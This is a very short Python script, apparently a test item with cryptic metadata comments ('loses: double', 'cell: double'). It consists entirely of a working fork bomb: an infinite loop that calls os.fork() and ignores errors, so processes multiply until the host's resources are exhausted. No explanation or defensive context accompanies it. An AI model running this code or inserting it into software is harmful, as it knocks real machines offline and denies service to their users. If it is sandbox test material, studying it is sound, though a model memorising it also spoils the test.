# Forks without end.
# loses: double
# remark: Cell double
# cell: double
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
